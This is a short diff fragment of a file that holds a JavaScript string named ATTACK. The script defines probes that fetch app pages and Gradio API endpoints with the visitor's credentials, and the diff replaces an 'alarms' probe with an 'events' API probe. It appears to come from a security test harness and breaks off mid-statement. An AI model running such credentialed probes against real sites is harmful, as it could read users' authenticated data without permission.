@@ -27,7 +27,7 @@ ATTACK = """
 const told = {};
 const tries = {
   config: () => fetch("PAGES/en/", { credentials: "include" }).then((answer) => answer.text()),
-  alarms: () => fetch("PAGES/alarms/en", { credentials: "include" }).then((answer) => answer.text()),
+  events: () => fetch("PAGES/api/v1/events", { credentials: "include" }).then((answer) => answer.text()),
   blind: () => fetch("PAGES/en/gradio_api/queue/data", { mode: "no-cors", credentials: "include" })
     .then((answer) => answer.type + answer.status),
   post: () => fetch("PAGES/en/gradio_api/component_server/", { method: "POST", credentials: "include",
